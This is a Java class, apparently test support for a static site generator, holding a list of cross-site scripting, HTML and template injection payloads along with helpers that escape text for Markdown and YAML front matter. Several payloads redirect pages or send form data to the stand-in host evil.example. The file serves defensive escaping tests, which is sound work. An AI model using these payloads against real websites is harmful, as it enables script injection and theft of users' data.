package dev.doorman.site;

import java.util.List;

/** Texts that would do harm where they were taken for something else than text. */
public final class Payloads {
  public static final List<String> ALL =
      List.of(
          "<script>window.pwned=1</script>",
          "</script><script>window.pwned=1</script>",
          "</title><script>window.pwned=1</script>",
          "<img src=x onerror=window.pwned=1>",
          "<img src=http://127.0.0.1:9/pixel>",
          "<svg onload=window.pwned=1>",
          "<svg><script>window.pwned=1</script></svg>",
          "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
          "\"><script>window.pwned=1</script>",
          "'><script>window.pwned=1</script>",
          "\" autofocus onfocus=\"window.pwned=1",
          "' onmouseover='window.pwned=1",
          "\"><base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>body{display:none}</style>",
          "<form action=//evil.example/><input name=q></form>",
          "<a href=javascript:window.pwned=1>x</a>",
          "<details open ontoggle=window.pwned=1>",
          "<template><script>window.pwned=1</script></template>",
          "<!--><script>window.pwned=1</script-->",
          "<![CDATA[<script>window.pwned=1</script>]]>",
          "&lt;script&gt;window.pwned=1&lt;/script&gt;",
          "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
          "{window.pwned=1} ${7*7} {{7*7}} {article.title}",
          "\",\"x\":\"</script><script>window.pwned=1</script>",
          "\u2028window.pwned=1\u2029//",
          "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
          "javascript:window.pwned=1//",
          "<math><mtext></p><script>window.pwned=1</script>",
          "\u202Etxet sdrawkcab\u202C <b>bold</b>");

  private Payloads() {}

  /** The text as Markdown that means just this text. */
  public static String asMarkdown(String text) {
    return text.replaceAll("(\\p{Punct})", "\\\\$1");
  }

  /** The text as a value in front matter. */
  public static String asYaml(String text) {
    var quoted = new StringBuilder("\"");
    text.codePoints()
        .forEach(
            sign -> {
              if (sign == '"' || sign == '\\') {
                quoted.append('\\').appendCodePoint(sign);
              } else if (sign < 0x20 || (sign >= 0x2028 && sign <= 0x202E)) {
                quoted.append("\\u%04x".formatted(sign));
              } else {
                quoted.appendCodePoint(sign);
              }
            });
    return quoted.append('"').toString();
  }
}
